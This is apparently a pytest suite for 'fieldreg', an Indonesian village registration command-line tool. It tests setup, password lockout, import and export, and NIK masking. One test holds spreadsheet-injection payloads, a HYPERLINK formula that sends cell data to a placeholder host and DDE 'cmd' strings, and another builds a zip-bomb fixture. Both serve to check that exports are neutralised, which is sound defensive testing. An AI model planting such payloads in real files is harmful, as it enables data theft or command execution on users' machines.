"""The `fieldreg` command, run as a separate process the way a volunteer or a script runs it:
summary on stdout, progress and errors on stderr (Indonesian by default), exit status."""

from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from fieldreg.services import accounts
from tools.sample_data import SampleFactory, village_list_row, write_village_list

ROOT = Path(__file__).resolve().parents[2]
KEY_RE = re.compile(r"\b([0-9A-Z]{4}-){5}[0-9A-Z]{4}\b")


def fieldreg(home: Path, *args: str, password: str | None = "rahasia-desa-1",
             lang: str | None = None) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("FIELDREG_")}
    env.update(FIELDREG_HOME=str(home), FIELDREG_ARGON2_COST="1,8,1",
               PYTHONPATH=str(ROOT))
    if password is not None:
        env["FIELDREG_PASSWORD"] = password
    if lang:
        env["FIELDREG_LANG"] = lang
    return subprocess.run(
        [sys.executable, "-m", "fieldreg.cli", *args], cwd=ROOT, env=env, text=True,
        capture_output=True, stdin=subprocess.DEVNULL, timeout=120, check=False,
    )


@pytest.fixture
def ready_home(home: Path, init: accounts.InitResult) -> Path:
    """A data folder set up through the services (password rahasia-desa-1)."""
    return home


def village_list(path: Path, factory: SampleFactory, n: int, *, bad: int = 0) -> list[dict]:
    rows = [village_list_row(factory.data()) for _ in range(n)]
    for r in rows[:bad]:
        r["kode_desa"] = "15.05.01.2999"
    write_village_list(path, rows)
    return rows


# ---------------------------------------------------------------- setting up


def test_init_prints_the_recovery_key_once(home: Path) -> None:
    out = fieldreg(home, "init", "--device-name", "Laptop Desa", "--regency", "15.05",
                   "--volunteer", "Budi Santoso")
    assert out.returncode == 0, out.stderr
    keys = KEY_RE.findall(out.stdout)
    assert len(keys) == 1
    key = KEY_RE.search(out.stdout).group(0)  # type: ignore[union-attr]
    assert "KUNCI PEMULIHAN" in out.stdout
    assert key not in out.stderr
    assert key not in (home / "keyslots.json").read_text("utf-8")
    for log in (home / "logs").glob("*"):
        assert key not in log.read_text("utf-8")
    # the key printed is the one that works
    accounts.recover(home, key, "", "sandi-baru-2026").close()

    again = fieldreg(home, "init", "--device-name", "Lain", "--regency", "15.05",
                     "--volunteer", "Siti")
    assert again.returncode != 0
    assert "sudah disiapkan" in again.stderr
    assert not KEY_RE.search(again.stdout)


def test_init_with_an_unknown_regency(home: Path) -> None:
    out = fieldreg(home, "init", "--device-name", "Laptop", "--regency", "15.99",
                   "--volunteer", "Budi")
    assert out.returncode != 0
    assert "Kode kabupaten 15.99 tidak ada" in out.stderr
    assert not accounts.is_initialised(home)


def test_commands_before_setup(home: Path) -> None:
    out = fieldreg(home, "status")
    assert out.returncode != 0
    assert "belum disiapkan" in out.stderr and "fieldreg init" in out.stderr


def test_template(home: Path, tmp_path: Path) -> None:
    out = fieldreg(home, "template", str(tmp_path / "templat.xlsx"))
    assert out.returncode == 0, out.stderr
    assert "templat.xlsx" in out.stdout
    wb = load_workbook(tmp_path / "templat.xlsx", read_only=True)
    assert {"Data", "Petunjuk", "Kode Desa"} <= set(wb.sheetnames)


# ---------------------------------------------------------------- unlocking


def test_wrong_password_exits_non_zero_in_indonesian(ready_home: Path) -> None:
    out = fieldreg(ready_home, "status", password="salah-sekali")
    assert out.returncode != 0
    assert "Kata sandi salah. Sisa percobaan sebelum dikunci: 4." in out.stderr
    assert out.stdout == ""
    out = fieldreg(ready_home, "status", password="salah-sekali", lang="en")
    assert "Wrong password. Attempts left before lock-out: 3." in out.stderr


def test_password_from_stdin_when_not_in_the_environment(ready_home: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("FIELDREG_")}
    env.update(FIELDREG_HOME=str(ready_home), PYTHONPATH=str(ROOT))
    out = subprocess.run([sys.executable, "-m", "fieldreg.cli", "status"], cwd=ROOT, env=env,
                         input="rahasia-desa-1\n", text=True, capture_output=True, timeout=120,
                         check=False)
    assert out.returncode == 0, out.stderr


# ---------------------------------------------------------------- import, export, list, status


def test_import_exit_status_report_and_streams(ready_home: Path, factory: SampleFactory,
                                               tmp_path: Path) -> None:
    village_list(tmp_path / "desa.csv", factory, 4, bad=1)
    report = tmp_path / "laporan.csv"
    out = fieldreg(ready_home, "import", str(tmp_path / "desa.csv"), "--report", str(report))
    assert out.returncode != 0  # a row was refused
    assert "3 dari 4 baris diimpor" in out.stdout and "1 ditolak" in out.stdout
    assert "memeriksa baris 4/4" in out.stderr  # progress on stderr …
    assert "memeriksa" not in out.stdout  # … never on stdout
    with report.open(encoding="utf-8-sig", newline="") as f:
        lines = list(csv.DictReader(f))
    assert list(lines[0]) == ["baris", "kolom", "tingkat", "kode", "pesan"]
    assert ("2", "kode_desa", "galat", "village_unknown") in {
        (x["baris"], x["kolom"], x["tingkat"], x["kode"]) for x in lines
    }
    assert any("tidak ada di daftar Kemendagri" in x["pesan"] for x in lines)

    village_list(tmp_path / "baik.xlsx", factory, 3)
    out = fieldreg(ready_home, "import", str(tmp_path / "baik.xlsx"), "--consent", "paper")
    assert out.returncode == 0, out.stderr
    assert "3 dari 3 baris diimpor sebagai siap kirim" in out.stdout

    status = fieldreg(ready_home, "status")
    assert status.returncode == 0, status.stderr
    assert re.search(r"draft\s+3", status.stdout)
    assert re.search(r"ready\s+3", status.stdout)
    assert "Antrian kirim: 3" in status.stdout

    # again: nothing added, and it says so
    again = fieldreg(ready_home, "import", str(tmp_path / "baik.xlsx"), "--consent", "paper")
    assert again.returncode != 0
    assert "0 dari 3 baris diimpor" in again.stdout
    assert "sudah pernah diimpor" in again.stderr


def test_import_dry_run_saves_nothing(ready_home: Path, factory: SampleFactory,
                                      tmp_path: Path) -> None:
    village_list(tmp_path / "desa.csv", factory, 3)
    out = fieldreg(ready_home, "import", str(tmp_path / "desa.csv"), "--dry-run")
    assert out.returncode == 0, out.stderr
    assert "Uji coba: 3 baris, 3 bisa diimpor, 0 ditolak" in out.stdout
    status = fieldreg(ready_home, "status")
    assert "draft" not in status.stdout and "Antrian kirim: 0" in status.stdout


def test_import_of_something_that_is_not_a_table(ready_home: Path, tmp_path: Path) -> None:
    (tmp_path / "foto.xlsx").write_text("bukan excel", "utf-8")
    out = fieldreg(ready_home, "import", str(tmp_path / "foto.xlsx"))
    assert out.returncode != 0
    assert out.stderr.strip().splitlines()[-1] == (
        "Berkas foto.xlsx tidak bisa dibaca sebagai tabel CSV atau Excel (.xlsx)."
    )
    assert "Traceback" not in out.stderr


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_every_registration_with_its_status(ready_home: Path, factory: SampleFactory,
                                                   tmp_path: Path, suffix: str) -> None:
    rows = village_list(tmp_path / "desa.csv", factory, 3)
    assert fieldreg(ready_home, "import", str(tmp_path / "desa.csv")).returncode == 0
    more = village_list(tmp_path / "lagi.csv", factory, 2)
    assert fieldreg(ready_home, "import", str(tmp_path / "lagi.csv"),
                    "--consent", "paper").returncode == 0

    target = tmp_path / f"semua{suffix}"
    out = fieldreg(ready_home, "export", str(target))
    assert out.returncode == 0, out.stderr
    assert f"5 data diekspor ke {target}" in out.stdout
    if suffix == ".csv":
        with target.open(encoding="utf-8-sig", newline="") as f:
            exported = list(csv.DictReader(f))
    else:
        sheet = load_workbook(target, read_only=True).worksheets[0]
        values = list(sheet.iter_rows(values_only=True))
        exported = [dict(zip(values[0], v, strict=True)) for v in values[1:]]
    status = {str(r["nik"]): r["status"] for r in exported}
    assert status == {**{r["nik"]: "draft" for r in rows}, **{r["nik"]: "ready" for r in more}}
    assert all(r["nama_lengkap"] for r in exported)


def test_list_search_masks_the_nik(ready_home: Path, factory: SampleFactory,
                                   tmp_path: Path) -> None:
    rows = village_list(tmp_path / "desa.csv", factory, 4)
    rows[0]["nama_lengkap"] = "SITI ZULAIKHA"
    write_village_list(tmp_path / "desa.csv", rows)
    assert fieldreg(ready_home, "import", str(tmp_path / "desa.csv")).returncode == 0

    out = fieldreg(ready_home, "list", "--search", "zulaik")
    assert out.returncode == 0, out.stderr
    lines = out.stdout.strip().splitlines()
    assert len(lines) == 1 and "SITI ZULAIKHA" in lines[0]
    assert rows[0]["nik"] not in out.stdout
    assert "*" * 12 + rows[0]["nik"][-4:] in lines[0]
    assert "1 dari 1 ditampilkan" in out.stderr

    full = fieldreg(ready_home, "list", "--search", rows[0]["nik"], "--full-nik")
    assert rows[0]["nik"] in full.stdout

    listed = fieldreg(ready_home, "list", "--status", "draft")
    assert len(listed.stdout.strip().splitlines()) == 4
    assert fieldreg(ready_home, "list", "--status", "ready").stdout.strip() == ""


# ---------------------------------------------------------------- spreadsheets written safely

FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik di sini")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_and_import_report_hold_no_formula_and_only_their_owner_reads_them(
        ready_home: Path, factory: SampleFactory, tmp_path: Path, suffix: str) -> None:
    """Text a volunteer typed (or a village list carried) that starts like a formula is
    written with a leading apostrophe, and as a text cell in XLSX; the files are 0600."""
    from fieldreg.services.village_import import COLUMNS

    rows = [village_list_row(factory.data()) for _ in range(2)]
    rows[0].update(alamat=FORMULA, tempat_lahir=DDE)
    rows[1]["alamat"] = MINUS
    header = [*COLUMNS, FORMULA]  # an unknown column: its header goes into the report
    desa = tmp_path / "desa.csv"
    with desa.open("w", encoding="utf-8", newline="") as f:  # raw, as a hostile list is
        w = csv.writer(f)
        w.writerow(header)
        w.writerows([[r.get(c, "") for c in COLUMNS] + ["x"] for r in rows])
    report, target = tmp_path / "laporan.csv", tmp_path / f"semua{suffix}"
    target.write_text("an older export, world-readable")
    target.chmod(0o644)
    umask = os.umask(0o022)  # the usual umask: files would be world-readable
    try:
        out = fieldreg(ready_home, "import", str(desa), "--report", str(report))
        assert out.returncode == 0, out.stderr
        out = fieldreg(ready_home, "export", str(target))
        assert out.returncode == 0, out.stderr
    finally:
        os.umask(umask)

    for path in (report, target):
        assert path.stat().st_mode & 0o777 == 0o600, (path.name, oct(path.stat().st_mode))
    with report.open(encoding="utf-8-sig", newline="") as f:
        kolom = [line["kolom"] for line in csv.DictReader(f)]
    assert kolom == ["'" + FORMULA]

    if suffix == ".csv":
        with target.open(encoding="utf-8-sig", newline="") as f:
            exported = list(csv.reader(f))
    else:
        wb = load_workbook(target)  # not read-only: formulas would show as data_type "f"
        cells = [c for row in wb.worksheets[0].iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        exported = [[c.value for c in row] for row in wb.worksheets[0].iter_rows()]
    by_column = [dict(zip(exported[0], row, strict=True)) for row in exported[1:]]
    assert sorted(r["alamat"] for r in by_column) == sorted(["'" + FORMULA, "'" + MINUS])
    assert "'" + DDE in [r["tempat_lahir"] for r in by_column]
    for row in exported:
        for value in row:
            if isinstance(value, str) and value[:1] in ("=", "@", "\t", "\r", "+", "-"):
                assert value[1:].isdigit(), value  # only a signed number may stay as it is


def test_import_of_a_zip_bomb_or_a_doubled_column_is_one_clear_message(
        ready_home: Path, factory: SampleFactory, tmp_path: Path) -> None:
    from fieldreg.services.village_import import COLUMNS
    from tests.hostile_tables import SHEET, xlsx_parts, xlsx_with, zeros_member

    bomb = tmp_path / "bom.xlsx"
    bomb.write_bytes(xlsx_with(xlsx_parts([list(COLUMNS)]), {SHEET: zeros_member(SHEET, 1200)}))
    out = fieldreg(ready_home, "import", str(bomb))
    assert out.returncode == 1
    assert out.stderr.strip().splitlines()[-1].startswith(
        "Berkas bom.xlsx membengkak menjadi lebih dari 64 MB saat dibuka")
    assert "Traceback" not in out.stderr

    r = village_list_row(factory.data())
    doubled = tmp_path / "ganda.csv"
    with doubled.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([[*COLUMNS, "NIK"], [*(r[c] for c in COLUMNS), "3171010101900001"]])
    out = fieldreg(ready_home, "import", str(doubled), lang="en")
    assert out.returncode == 1
    assert out.stderr.strip().splitlines()[-1] == (
        "File ganda.csv has the same column more than once: nik: 'nik' (A), 'NIK' (S). Delete "
        "or rename one of them, then import again; nothing was imported.")
    status = fieldreg(ready_home, "status")
    assert "Antrian kirim: 0" in status.stdout and not re.search(r"draft\s+[1-9]", status.stdout)
